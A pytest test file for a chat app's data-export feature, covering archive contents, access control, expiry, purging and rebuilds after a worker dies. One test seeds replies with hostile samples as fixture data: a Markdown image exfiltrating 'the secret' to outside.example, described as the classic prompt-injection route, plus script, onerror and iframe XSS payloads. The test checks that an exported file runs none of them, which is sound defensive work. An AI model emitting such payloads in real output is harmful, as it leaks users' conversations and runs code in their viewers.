"""Export: everything, in order, with usage; the owner's alone; gone after it expires."""

import csv
import io
import json
import os
import signal
import threading
import uuid
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test import Client
from django.utils import timezone

from accounts import data_rights
from accounts.models import AuditEvent, DataExport
from billing.models import UsageRecord
from conversations.models import Conversation, Message

from .data_rights_fixtures import (
    WorkerKilled,
    broker_down_once,
    dies_on_call,
    error_lines,
    make_history,
    manage_py,
    other_process,
    run_as_worker,
    travel,
)

PASSWORD = "correct horse battery 9"
# What a Markdown viewer makes of text, links and code: nothing in them loads or runs.
VIEWER_TEXT_TAGS = {"h1", "h2", "h3", "p", "ul", "li", "em", "strong", "a", "code", "pre", "hr", "blockquote"}


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _start_and_finish(client, django_capture_on_commit_callbacks) -> dict:
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/api/v1/account/export/")
    assert response.status_code == 202
    export_id = response.json()["export_id"]
    status = client.get(f"/api/v1/account/export/{export_id}/")
    assert status.status_code == 200
    return status.json()


def _download(client, url) -> zipfile.ZipFile:
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert "attachment" in response["Content-Disposition"]
    return zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))


@pytest.mark.django_db
def test_export_holds_every_message_in_order_with_usage(user, other_user, django_capture_on_commit_callbacks):
    make_history(user, conversations=3, messages_each=5)
    make_history(other_user, conversations=1, messages_each=2, tag="not-yours")
    client = _client(user)

    status = _start_and_finish(client, django_capture_on_commit_callbacks)

    assert status["status"] == "ready" and status["progress"] == 100
    archive = _download(client, status["download_url"])
    names = set(archive.namelist())
    assert {"README.md", "account.json", "conversations.json", "usage.csv"} <= names
    data = json.loads(archive.read("conversations.json"))
    assert data["format"] == "parley.export" and data["version"] == 1
    expected = list(Conversation.objects.filter(owner=user).order_by("created_at"))
    assert [c["id"] for c in data["conversations"]] == [str(c.id) for c in expected]
    for exported, conversation in zip(data["conversations"], expected, strict=True):
        messages = list(Message.objects.filter(conversation=conversation).order_by("created_at"))
        assert [m["id"] for m in exported["messages"]] == [str(m.id) for m in messages]
        assert [m["content"] for m in exported["messages"]] == [m.content for m in messages]
        assert [m["usage"]["cost"] for m in exported["messages"]] == [format(m.cost, "f") for m in messages]
        assert exported["system_prompt"] == conversation.system_prompt
    markdown_files = sorted(n for n in names if n.startswith("conversations/") and n.endswith(".md"))
    assert len(markdown_files) == 3
    for name, conversation in zip(markdown_files, expected, strict=True):  # names sort by date
        text = archive.read(name).decode()
        contents = [m.content for m in Message.objects.filter(conversation=conversation).order_by("created_at")]
        positions = [text.index(content) for content in contents]
        assert positions == sorted(positions)
        assert text.startswith(f"# {conversation.title}")
    rows = list(csv.DictReader(io.StringIO(archive.read("usage.csv").decode())))
    assert len(rows) == UsageRecord.objects.filter(user=user).count() == 6
    assert {r["conversation_id"] for r in rows} == {str(c.id) for c in expected}
    assert "not-yours" not in archive.read("conversations.json").decode()
    account = json.loads(archive.read("account.json"))
    assert account["username"] == user.username and account["email"] == user.email
    assert AuditEvent.objects.filter(action="user.export", target_id=str(user.pk)).exists()


@pytest.mark.django_db
def test_another_user_gets_404_for_an_export(user, other_user, django_capture_on_commit_callbacks):
    make_history(user, conversations=1, messages_each=2)
    status = _start_and_finish(_client(user), django_capture_on_commit_callbacks)
    intruder = _client(other_user)
    export_id = status["download_url"].split("/")[-3]
    assert intruder.get(f"/api/v1/account/export/{export_id}/").status_code == 404
    assert intruder.get(f"/api/v1/account/export/{export_id}/").json()["error"]["code"] == "not_found"
    assert intruder.get(status["download_url"]).status_code == 404
    anonymous = Client()
    assert anonymous.get(f"/api/v1/account/export/{export_id}/").status_code == 401
    assert anonymous.post("/api/v1/account/export/").status_code == 401


@pytest.mark.django_db
def test_an_expired_export_is_refused_clearly_then_purged(user, django_capture_on_commit_callbacks):
    make_history(user, conversations=1, messages_each=2)
    client = _client(user)
    status = _start_and_finish(client, django_capture_on_commit_callbacks)
    export = DataExport.objects.get(user=user)
    path = data_rights.export_file_path(export)
    assert path.exists()
    DataExport.objects.filter(pk=export.pk).update(expires_at=timezone.now() - timedelta(minutes=1))

    download = client.get(status["download_url"])
    assert download.status_code == 410
    assert "expired" in download.content.decode()
    api = client.get(f"/api/v1/account/export/{export.pk}/")
    assert api.status_code == 410 and api.json()["error"]["code"] == "export_expired"
    assert path.exists() and DataExport.objects.filter(pk=export.pk).exists()  # refusing changed nothing

    assert data_rights.exports_purge_expired() == 1
    assert not path.exists() and not DataExport.objects.filter(pk=export.pk).exists()
    assert client.get(status["download_url"]).status_code == 404
    assert client.get(f"/api/v1/account/export/{export.pk}/").status_code == 404


@pytest.mark.django_db
def test_purge_keeps_exports_that_have_not_expired(user, django_capture_on_commit_callbacks):
    make_history(user, conversations=1, messages_each=2)
    _start_and_finish(_client(user), django_capture_on_commit_callbacks)
    assert data_rights.exports_purge_expired() == 0
    export = DataExport.objects.get(user=user)
    assert data_rights.export_file_path(export).exists()
    # EXPORT_TTL_HOURS later it goes.
    assert data_rights.exports_purge_expired(now=timezone.now() + timedelta(hours=24, minutes=1)) == 1


@pytest.mark.django_db
def test_the_purge_skips_a_file_that_vanished_since_it_listed_the_folder(user, monkeypatch, settings):
    root = Path(settings.EXPORT_ROOT)
    root.mkdir(parents=True, exist_ok=True)
    long_ago = (timezone.now() - timedelta(hours=data_rights.STALE_EXPORT_HOURS + 1)).timestamp()
    strays = [root / "0a-stray.zip", root / "zz-stray.zip.partial"]  # belong to no export
    for stray in strays:
        stray.write_bytes(b"old")
        os.utime(stray, (long_ago, long_ago))
    real_iterdir = Path.iterdir

    def iterdir(self):
        # A build renamed (or removed) its partial between the listing and the look at it.
        listing = sorted(real_iterdir(self))
        return iter([listing[0], self / "00000000-gone.zip.partial", *listing[1:]])

    monkeypatch.setattr(Path, "iterdir", iterdir)
    assert data_rights.exports_purge_expired() == 0  # no crash midway
    monkeypatch.undo()
    assert _files(settings) == []  # the strays before and after the vanished one went


@pytest.mark.django_db
def test_two_exports_requested_at_once_share_the_first_id(user):
    client = _client(user)
    first = client.post("/api/v1/account/export/")  # queued on commit: still pending
    second = client.post("/api/v1/account/export/")
    assert first.status_code == second.status_code == 202
    assert first.json()["export_id"] == second.json()["export_id"]
    assert DataExport.objects.filter(user=user).count() == 1


@pytest.mark.django_db(transaction=True)
def test_two_exports_racing_in_two_threads_make_one(user, monkeypatch):
    from accounts import tasks

    monkeypatch.setattr(tasks.export_build_task, "delay", lambda export_id: None)  # keep both pending
    barrier = threading.Barrier(2)
    ids = []

    def ask():
        try:
            barrier.wait()
            ids.append(str(data_rights.export_request(user=user).pk))
        finally:
            connection.close()

    threads = [threading.Thread(target=ask) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(ids) == 2 and ids[0] == ids[1]
    assert DataExport.objects.filter(user=user).count() == 1


@pytest.mark.django_db
def test_progress_is_written_a_bounded_number_of_times(user, tmp_path):
    make_history(user, conversations=4, messages_each=60)
    seen = []
    data_rights.export_write_zip(user=user, path=tmp_path / "x.zip", on_progress=seen.append)
    assert seen == sorted(seen) and seen[-1] == 99
    assert len(seen) <= 25


@pytest.mark.django_db
def test_a_failed_build_leaves_no_file(user, monkeypatch, settings):
    make_history(user, conversations=1, messages_each=2)
    export = DataExport.objects.create(user=user)

    def boom(**kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(data_rights, "export_write_zip", boom)
    data_rights.export_build(export_id=export.pk)
    export.refresh_from_db()
    assert export.status == "failed" and export.error == "OSError"
    assert list(Path(settings.EXPORT_ROOT).iterdir()) == []
    # A new export can be asked for after a failure.
    assert data_rights.export_request(user=user).pk != export.pk


@pytest.mark.django_db
def test_profile_page_starts_an_export_and_shows_progress(user, django_capture_on_commit_callbacks):
    make_history(user, conversations=1, messages_each=2)
    client = _client(user)
    page = client.get("/accounts/data/")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Export my data" in html and "Erase my account" in html
    assert "<script>" not in html and "/static/js/data_rights.js" in html  # no inline script
    response = client.post("/accounts/data/export/")
    assert response.status_code == 302
    export = DataExport.objects.get(user=user)
    html = client.get("/accounts/data/").content.decode()
    assert f"/api/v1/account/export/{export.pk}/" in html  # the script polls this
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/accounts/data/export/")  # the same pending one, now built
    data_rights.export_build(export_id=export.pk)
    html = client.get("/accounts/data/").content.decode()
    assert f"/accounts/data/export/{export.pk}/download/" in html


def test_the_progress_script_is_a_static_file():
    script = Path(__file__).resolve().parents[2] / "static" / "js" / "data_rights.js"
    assert "download_url" in script.read_text()


@pytest.mark.django_db
def test_single_conversation_downloads_as_markdown_and_json(user, other_user):
    make_history(user, conversations=1, messages_each=4)
    conversation = Conversation.objects.get(owner=user)
    client = _client(user)
    markdown = client.get(f"/api/v1/conversations/{conversation.id}/export.md")
    assert markdown.status_code == 200 and markdown["Content-Type"].startswith("text/markdown")
    text = markdown.content.decode()
    contents = list(Message.objects.filter(conversation=conversation).order_by("created_at").values_list("content", flat=True))
    assert [text.index(c) for c in contents] == sorted(text.index(c) for c in contents)
    as_json = client.get(f"/api/v1/conversations/{conversation.id}/export.json")
    assert as_json.status_code == 200
    body = json.loads(as_json.content)
    assert body["id"] == str(conversation.id) and [m["content"] for m in body["messages"]] == contents
    intruder = _client(other_user)
    assert intruder.get(f"/api/v1/conversations/{conversation.id}/export.md").status_code == 404
    assert intruder.get(f"/api/v1/conversations/{conversation.id}/export.json").status_code == 404
    assert Client().get(f"/api/v1/conversations/{conversation.id}/export.md").status_code == 401


@pytest.mark.django_db
def test_the_markdown_loads_and_runs_nothing_a_reply_put_in_it_when_a_viewer_shows_it(user):
    # A reply can be made to write an image whose address carries the conversation out (a
    # prompt injection's classic), or raw HTML. The chat page shows neither; a Markdown viewer
    # showing the download (most render images and raw HTML) must not either.
    from html.parser import HTMLParser

    from markdown_it import MarkdownIt

    title = "![t](https://outside.example/title.png) <b>hi</b>"
    conversation = Conversation.objects.create(
        owner=user, title=title, model="demo:echo", system_prompt="<iframe src=https://outside.example/sp></iframe>"
    )
    replies = [
        "Sure! ![pixel](https://outside.example/p.png?q=the+secret)",
        "<img src=https://outside.example/x.png onerror=alert(1)>\n\n<script>alert(2)</script>",
        "See ![ref][r] ``` and ````\n\n[r]: https://outside.example/ref.png",
        # A reply cut inside a code block, then one whose fence would close it and go on as HTML.
        "```python\nprint(1)",
        "```\n<img src=https://outside.example/after.png>",
        "**bold** and a [link](https://example.com/page)\n\n```python\nprint(1)\n```",
    ]
    question = Message.objects.create(conversation=conversation, role="user", content="hello", client_id=uuid.uuid4())
    for text in replies:
        Message.objects.create(conversation=conversation, role="assistant", content=text, reply_to=question)

    markdown = _client(user).get(f"/api/v1/conversations/{conversation.id}/export.md").content.decode()
    shown = MarkdownIt("commonmark", {"html": True}).render(markdown)  # a viewer that renders raw HTML

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            elements.append((tag, dict(attrs)))

    elements: list[tuple[str, dict]] = []
    Tags().feed(shown)
    live = [(tag, attrs) for tag, attrs in elements if tag not in VIEWER_TEXT_TAGS or set(attrs) - {"href", "class"}]
    assert live == [], "the viewer would load or run these"
    # Every text is still there as written, and the plain reply still reads as Markdown.
    for text in [*replies, conversation.system_prompt]:
        assert text in markdown
    assert "<strong>bold</strong>" in shown and '<a href="https://example.com/page">link</a>' in shown
    assert "![t](https://outside.example/title.png) &lt;b&gt;hi&lt;/b&gt;" in shown  # the title, as text


@pytest.mark.django_db
def test_an_empty_account_exports_valid_files(user, tmp_path):
    data_rights.export_write_zip(user=user, path=tmp_path / "empty.zip")
    with zipfile.ZipFile(tmp_path / "empty.zip") as archive:
        assert json.loads(archive.read("conversations.json"))["conversations"] == []
        assert archive.read("usage.csv").decode().startswith("created_at,")


@pytest.mark.django_db
def test_export_user_data_command(user, tmp_path, capsys):
    make_history(user, conversations=2, messages_each=2)
    target = tmp_path / "alice.zip"
    call_command("export_user_data", user.username, "--output", str(target))
    with zipfile.ZipFile(target) as archive:
        assert len(json.loads(archive.read("conversations.json"))["conversations"]) == 2
    assert "wrote" in capsys.readouterr().out


@pytest.mark.django_db
def test_export_user_data_command_bad_input_changes_nothing(user, tmp_path):
    with pytest.raises(CommandError, match="no user named"):
        call_command("export_user_data", "nobody_here", "--output", str(tmp_path / "x.zip"))
    existing = tmp_path / "there.zip"
    existing.write_bytes(b"keep me")
    with pytest.raises(CommandError, match="already exists"):
        call_command("export_user_data", user.username, "--output", str(existing))
    assert existing.read_bytes() == b"keep me"
    with pytest.raises(CommandError, match="does not exist"):
        call_command("export_user_data", user.username, "--output", str(tmp_path / "no" / "x.zip"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["there.zip"]
    assert not AuditEvent.objects.filter(action="user.export").exists()


@pytest.mark.django_db
def test_export_user_data_writes_a_file_only_its_owner_can_read(user, tmp_path, capsys):
    """It holds a person's whole history: 0600 whatever the umask, never 0644."""
    import os
    import stat

    make_history(user, conversations=1, messages_each=2)
    target = tmp_path / "alice.zip"
    previous = os.umask(0o000)  # the most permissive umask: the mode must not depend on it
    try:
        call_command("export_user_data", user.username, "--output", str(target))
    finally:
        os.umask(previous)
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    with zipfile.ZipFile(target) as archive:
        assert len(json.loads(archive.read("conversations.json"))["conversations"]) == 1
    assert [p.name for p in tmp_path.iterdir()] == ["alice.zip"]  # no partial file left beside it


@pytest.mark.django_db
@pytest.mark.parametrize("output", ["", "   "])
def test_export_user_data_refuses_an_empty_output_in_one_line(user, tmp_path, monkeypatch, output):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(CommandError) as excinfo:
        call_command("export_user_data", user.username, "--output", output)
    assert str(excinfo.value) == "--output is empty: name the zip file to write"
    assert list(tmp_path.iterdir()) == []
    assert not AuditEvent.objects.filter(action="user.export").exists()


@pytest.mark.django_db
def test_export_write_file_never_overwrites_a_file_or_symlink_that_appeared_and_leaves_nothing_on_failure(
    user, tmp_path, monkeypatch
):
    there = tmp_path / "there.zip"
    there.write_bytes(b"keep me")
    with pytest.raises(FileExistsError):
        data_rights.export_write_file(user=user, output=there)
    assert there.read_bytes() == b"keep me"
    link = tmp_path / "link.zip"
    link.symlink_to(tmp_path / "elsewhere.zip")
    with pytest.raises(CommandError, match="already exists"):
        call_command("export_user_data", user.username, "--output", str(link))
    with pytest.raises(FileExistsError):
        data_rights.export_write_file(user=user, output=link)
    assert not (tmp_path / "elsewhere.zip").exists()

    def broken(**kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(data_rights, "export_write_zip", broken)
    with pytest.raises(CommandError, match="cannot write .*No space left on device"):
        call_command("export_user_data", user.username, "--output", str(tmp_path / "new.zip"))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["link.zip", "there.zip"]
    assert not AuditEvent.objects.filter(action="user.export").exists()


def test_export_user_data_answers_a_bad_command_line_in_one_line():
    proc = manage_py("export_user_data", "alice")  # no --output
    assert proc.returncode != 0
    assert error_lines(proc) == ["CommandError: the following arguments are required: --output"], proc.stderr


@pytest.mark.django_db
def test_a_korean_title_downloads_with_a_proper_file_name(user):
    conversation = Conversation.objects.create(owner=user, title="회의 메모", model="demo:echo")
    response = _client(user).get(f"/api/v1/conversations/{conversation.id}/export.md")
    assert response.status_code == 200
    assert "filename*=utf-8''" in response["Content-Disposition"]
    assert response.content.decode().startswith("# 회의 메모")


@pytest.mark.django_db
def test_a_pending_export_cannot_be_downloaded_yet(user):
    client = _client(user)
    export_id = client.post("/api/v1/account/export/").json()["export_id"]
    status = client.get(f"/api/v1/account/export/{export_id}/").json()
    assert status["status"] == "pending" and "download_url" not in status and status["progress"] == 0
    response = client.get(f"/accounts/data/export/{export_id}/download/")
    assert response.status_code == 409 and "not ready yet" in response.content.decode()


# --- A build whose worker died --------------------------------------------------------------------


def _files(settings) -> list[str]:
    root = Path(settings.EXPORT_ROOT)
    return sorted(p.name for p in root.iterdir()) if root.exists() else []


def _assert_whole_export(archive: zipfile.ZipFile, user) -> None:
    """Every conversation and message of `user`, in order, and every usage row: nothing of a
    half-written run."""
    assert archive.testzip() is None
    data = json.loads(archive.read("conversations.json"))
    conversations = list(Conversation.objects.filter(owner=user).order_by("created_at"))
    assert [c["id"] for c in data["conversations"]] == [str(c.id) for c in conversations]
    for exported, conversation in zip(data["conversations"], conversations, strict=True):
        contents = list(Message.objects.filter(conversation=conversation).order_by("created_at").values_list("content", flat=True))
        assert [m["content"] for m in exported["messages"]] == contents
    markdown = [n for n in archive.namelist() if n.startswith("conversations/")]
    assert len(markdown) == len(conversations)
    rows = list(csv.DictReader(io.StringIO(archive.read("usage.csv").decode())))
    assert len(rows) == UsageRecord.objects.filter(user=user).count()


def _killed_mid_build(export, monkeypatch) -> None:
    """The build's worker dies at its third message, in this process (see WorkerKilled)."""
    from conversations import data_rights as conversation_rights

    with monkeypatch.context() as patch:
        patch.setattr(conversation_rights, "message_json", dies_on_call(3, conversation_rights.message_json))
        with pytest.raises(WorkerKilled):
            data_rights.export_build(export_id=export.pk)


@pytest.mark.django_db(transaction=True)
def test_a_build_whose_worker_was_killed_is_rebuilt_by_the_redelivered_task_once_its_lease_runs_out(
    user, monkeypatch, settings
):
    from accounts import tasks

    make_history(user, conversations=3, messages_each=6)
    export = DataExport.objects.create(user=user)
    # A real worker process, killed (SIGKILL) halfway through the history: no handler runs.
    killed = other_process(
        "import os, signal\n"
        "from accounts import data_rights\n"
        "from conversations import data_rights as conversation_rights\n"
        "real, seen = conversation_rights.message_json, []\n"
        "def message_json(message, **kwargs):\n"
        "    seen.append(message.pk)\n"
        "    if len(seen) == 10:\n"
        "        os.kill(os.getpid(), signal.SIGKILL)\n"
        "    return real(message, **kwargs)\n"
        "conversation_rights.message_json = message_json\n"
        f"data_rights.export_build(export_id='{export.pk}')\n"
    )
    assert killed.returncode == -signal.SIGKILL, killed.stderr[-2000:]
    export.refresh_from_db()
    assert export.status == "running" and export.lease_until > timezone.now()
    dead_files = _files(settings)
    assert len(dead_files) == 1 and dead_files[0].startswith(str(export.pk)) and dead_files[0].endswith(".partial")

    # Redelivered at once (acks late, reject on worker lost): the dead run's lease is still live,
    # so nothing is built yet and the task comes back when that lease has run out.
    retries = run_as_worker(tasks.export_build_task, str(export.pk))
    assert len(retries) == 1
    assert 0 < retries[0] <= data_rights.LEASE.total_seconds() + data_rights.LEASE_RETRY_MARGIN_SECONDS + 1
    assert _files(settings) == dead_files

    travel(monkeypatch, timedelta(seconds=retries[0]))
    assert run_as_worker(tasks.export_build_task, str(export.pk)) == []  # the retry, due now

    export.refresh_from_db()
    assert export.status == "ready" and export.progress == 100 and export.lease_until is None
    assert _files(settings) == [f"{export.pk}.zip"]  # the dead run's half zip is gone
    with zipfile.ZipFile(data_rights.export_file_path(export)) as archive:
        _assert_whole_export(archive, user)


@pytest.mark.django_db
def test_asking_again_rebuilds_an_export_whose_worker_died(user, monkeypatch, settings, django_capture_on_commit_callbacks):
    make_history(user, conversations=2, messages_each=4)
    client = _client(user)
    export = DataExport.objects.create(user=user)
    _killed_mid_build(export, monkeypatch)
    export.refresh_from_db()
    assert export.status == "running" and len(_files(settings)) == 1  # and a half zip on disk

    # Within the lease the build may be alive: asking again answers the same export, untouched.
    with django_capture_on_commit_callbacks(execute=True) as queued:
        response = client.post("/api/v1/account/export/")
    assert response.status_code == 202 and response.json()["export_id"] == str(export.pk)
    assert queued == [] and DataExport.objects.get(pk=export.pk).lease_token == export.lease_token

    travel(monkeypatch, data_rights.LEASE + timedelta(seconds=1))
    with django_capture_on_commit_callbacks(execute=True) as queued:
        response = client.post("/api/v1/account/export/")
    assert response.status_code == 202 and response.json()["export_id"] == str(export.pk)
    assert len(queued) == 1  # built again (eagerly here), under the same id the page polls

    status = client.get(f"/api/v1/account/export/{export.pk}/").json()
    assert status["status"] == "ready"
    _assert_whole_export(_download(client, status["download_url"]), user)
    assert _files(settings) == [f"{export.pk}.zip"]
    assert DataExport.objects.filter(user=user).count() == 1


@pytest.mark.django_db(transaction=True)
def test_a_second_worker_leaves_a_live_build_alone(user, monkeypatch, settings):
    from accounts import tasks
    from conversations import data_rights as conversation_rights

    make_history(user, conversations=2, messages_each=4)
    export = DataExport.objects.create(user=user)
    inside, go_on = threading.Event(), threading.Event()
    real = conversation_rights.message_json

    def paused(message, **kwargs):
        if not inside.is_set():  # the first worker is mid-build, alive, when the second comes
            inside.set()
            go_on.wait(10)
        return real(message, **kwargs)

    monkeypatch.setattr(conversation_rights, "message_json", paused)

    def first_worker():
        try:
            data_rights.export_build(export_id=export.pk)
        finally:
            connection.close()

    thread = threading.Thread(target=first_worker)
    thread.start()
    try:
        assert inside.wait(10)
        held = DataExport.objects.get(pk=export.pk)
        files = _files(settings)
        # The same task delivered to a second worker (a duplicate delivery): it builds nothing,
        # steals nothing, and comes back after the lease to find the export built.
        with pytest.raises(data_rights.LeaseHeld):
            data_rights.export_build(export_id=export.pk)
        assert len(run_as_worker(tasks.export_build_task, str(export.pk))) == 1
        now = DataExport.objects.get(pk=export.pk)
        assert (now.status, now.lease_token) == ("running", held.lease_token)
        assert _files(settings) == files and len(files) == 1
    finally:
        go_on.set()
        thread.join()
    export.refresh_from_db()
    assert export.status == "ready"
    assert _files(settings) == [f"{export.pk}.zip"]
    with zipfile.ZipFile(data_rights.export_file_path(export)) as archive:
        _assert_whole_export(archive, user)
    assert run_as_worker(tasks.export_build_task, str(export.pk)) == []  # the retry: nothing to do


@pytest.mark.django_db
def test_the_periodic_purge_rebuilds_a_build_whose_worker_died(
    user, monkeypatch, settings, django_capture_on_commit_callbacks
):
    # The embedded default has no broker to redeliver the task: after a restart, the periodic
    # purge is what notices the dead build.
    make_history(user, conversations=2, messages_each=4)
    export = DataExport.objects.create(user=user)
    _killed_mid_build(export, monkeypatch)
    with django_capture_on_commit_callbacks(execute=True) as queued:
        assert data_rights.exports_purge_expired() == 0
    assert queued == [] and DataExport.objects.get(pk=export.pk).status == "running"  # live lease: left alone

    travel(monkeypatch, data_rights.LEASE + timedelta(seconds=1))
    with django_capture_on_commit_callbacks(execute=True) as queued:
        assert data_rights.exports_purge_expired() == 0
    assert len(queued) == 1

    export.refresh_from_db()
    assert export.status == "ready"
    assert _files(settings) == [f"{export.pk}.zip"]
    with zipfile.ZipFile(data_rights.export_file_path(export)) as archive:
        _assert_whole_export(archive, user)


@pytest.mark.django_db
def test_a_build_alive_past_the_stale_limit_is_not_failed_but_a_dead_one_is(user, monkeypatch, settings):
    make_history(user, conversations=1, messages_each=4)
    export = DataExport.objects.create(user=user)
    _killed_mid_build(export, monkeypatch)
    DataExport.objects.filter(pk=export.pk).update(created_at=timezone.now() - timedelta(hours=3))
    data_rights.exports_purge_expired()
    assert DataExport.objects.get(pk=export.pk).status == "running"  # a live lease: still at work

    travel(monkeypatch, data_rights.LEASE + timedelta(seconds=1))
    # Dead, and still not built after STALE_EXPORT_HOURS: given up (failed, and purged at once).
    assert data_rights.exports_purge_expired() == 1
    assert not DataExport.objects.filter(pk=export.pk).exists()
    assert _files(settings) == []
    assert data_rights.export_request(user=user).pk != export.pk


def _stalls_after_its_claim(monkeypatch, while_stalled) -> None:
    """The next build stalls (GC pause, VM suspended, slow disk) right after claiming its export,
    before it has touched any file: `while_stalled()` runs then, past that build's lease."""
    real_mkdir = Path.mkdir
    calls = {"n": 0}

    def mkdir(self, *args, **kwargs):
        calls["n"] += 1
        if calls["n"] == 1:
            travel(monkeypatch, data_rights.LEASE + timedelta(seconds=1))
            while_stalled()
        return real_mkdir(self, *args, **kwargs)

    monkeypatch.setattr(Path, "mkdir", mkdir)


@pytest.mark.django_db
def test_a_stalled_build_waking_after_a_takeover_leaves_the_published_zip_alone(user, monkeypatch, settings):
    make_history(user, conversations=2, messages_each=4)
    export = DataExport.objects.create(user=user)

    def another_run_builds_it():
        data_rights.export_build(export_id=export.pk)
        assert DataExport.objects.get(pk=export.pk).status == "ready"
        assert _files(settings) == [f"{export.pk}.zip"]

    _stalls_after_its_claim(monkeypatch, another_run_builds_it)
    data_rights.export_build(export_id=export.pk)  # the stalled run, which no longer holds the export

    export.refresh_from_db()
    assert export.status == "ready" and export.lease_until is None
    assert _files(settings) == [f"{export.pk}.zip"]
    _assert_whole_export(_download(_client(user), f"/accounts/data/export/{export.pk}/download/"), user)


@pytest.mark.django_db
def test_a_stalled_build_waking_after_a_takeover_leaves_the_new_runs_partial_alone(user, monkeypatch, settings):
    make_history(user, conversations=2, messages_each=4)
    export = DataExport.objects.create(user=user)
    taken_over = {}

    def another_run_starts_building():
        _killed_mid_build(export, monkeypatch)  # alive as far as anyone can tell: its lease is live
        taken_over["token"] = DataExport.objects.get(pk=export.pk).lease_token
        taken_over["files"] = _files(settings)
        assert len(taken_over["files"]) == 1 and taken_over["files"][0].endswith(".partial")

    _stalls_after_its_claim(monkeypatch, another_run_starts_building)
    data_rights.export_build(export_id=export.pk)

    now = DataExport.objects.get(pk=export.pk)
    assert (now.status, now.lease_token) == ("running", taken_over["token"])
    assert _files(settings) == taken_over["files"]  # the live run's file, untouched


@pytest.mark.django_db
def test_an_export_whose_task_the_broker_refused_is_recorded_and_queued_again_after_the_grace(
    user, monkeypatch, settings, django_capture_on_commit_callbacks
):
    from accounts import tasks

    make_history(user, conversations=1, messages_each=2)
    client = _client(user)
    sent = broker_down_once(monkeypatch, tasks.export_build_task)

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/api/v1/account/export/")
    assert response.status_code == 202  # recorded: not a 500 after the row was committed
    export = DataExport.objects.get(pk=response.json()["export_id"])
    assert export.status == "pending" and len(sent) == 1

    # Asked again within the grace: the task may just be waiting in a busy queue.
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post("/api/v1/account/export/").json()["export_id"] == str(export.pk)
    assert len(sent) == 1

    travel(monkeypatch, data_rights.QUEUE_GRACE + timedelta(seconds=1))
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post("/api/v1/account/export/").json()["export_id"] == str(export.pk)
    assert len(sent) == 2
    status = client.get(f"/api/v1/account/export/{export.pk}/").json()
    assert status["status"] == "ready"
    _assert_whole_export(_download(client, status["download_url"]), user)


@pytest.mark.django_db
def test_the_purge_queues_again_an_export_no_worker_claimed(user, monkeypatch, settings, django_capture_on_commit_callbacks):
    from accounts import tasks

    make_history(user, conversations=1, messages_each=2)
    sent = broker_down_once(monkeypatch, tasks.export_build_task)
    with django_capture_on_commit_callbacks(execute=True):
        export = data_rights.export_request(user=user)

    data_rights.exports_purge_expired()
    assert DataExport.objects.get(pk=export.pk).status == "pending" and len(sent) == 1  # within the grace

    travel(monkeypatch, data_rights.QUEUE_GRACE + timedelta(seconds=1))
    with django_capture_on_commit_callbacks(execute=True):
        data_rights.exports_purge_expired()
    assert len(sent) == 2 and DataExport.objects.get(pk=export.pk).status == "ready"


def _running_reply(user, *, title: str, buffered_for=None, text: str) -> Message:
    """A conversation whose reply is being written: its row empty (the turn writes it at the
    end), its words so far in the stream buffer, which names `buffered_for` (the reply itself
    unless given)."""
    from django.core.cache import cache

    from conversations import turns

    conversation = Conversation.objects.create(owner=user, model="demo:echo", title=title)
    question = Message.objects.create(conversation=conversation, role=Message.Role.USER, content="tell me", client_id=None)
    reply = Message.objects.create(
        conversation=conversation, role=Message.Role.ASSISTANT, status=Message.Status.STREAMING, model="demo:echo", reply_to=question
    )
    named = buffered_for or reply.id
    cache.set(turns.buffer_key(conversation.id), turns._buffer_state(named, 3, text, "demo:echo", named, 5, user.pk, 1, None), 60)
    return reply


def _exported_messages(user, path) -> tuple[list, str]:
    data_rights.export_write_zip(user=user, path=path)
    with zipfile.ZipFile(path) as archive:
        (exported,) = json.loads(archive.read("conversations.json"))["conversations"]
        markdown = next(archive.read(n).decode() for n in archive.namelist() if n.endswith(".md") and not n.endswith("README.md"))
    return exported["messages"], markdown


@pytest.mark.django_db
def test_a_reply_still_streaming_is_exported_with_the_words_written_so_far(user, tmp_path):
    reply = _running_reply(user, title="live", text="the words so far")

    messages, markdown = _exported_messages(user, tmp_path / "live.zip")

    assert [(m["status"], m["content"]) for m in messages] == [("done", "tell me"), ("streaming", "the words so far")]
    assert "the words so far" in markdown
    reply.refresh_from_db()
    assert reply.content == ""  # the export reads the buffer; the reply's row is the turn's to write
    as_json = _client(user).get(f"/api/v1/conversations/{reply.conversation_id}/export.json")
    assert json.loads(as_json.content)["messages"][1]["content"] == "the words so far"


@pytest.mark.django_db
def test_a_buffer_naming_another_reply_is_not_exported_as_this_ones_text(user, tmp_path):
    _running_reply(user, title="stale", buffered_for=uuid.uuid4(), text="not this one")

    messages, markdown = _exported_messages(user, tmp_path / "stale.zip")

    assert messages[1]["content"] == "" and "not this one" not in markdown
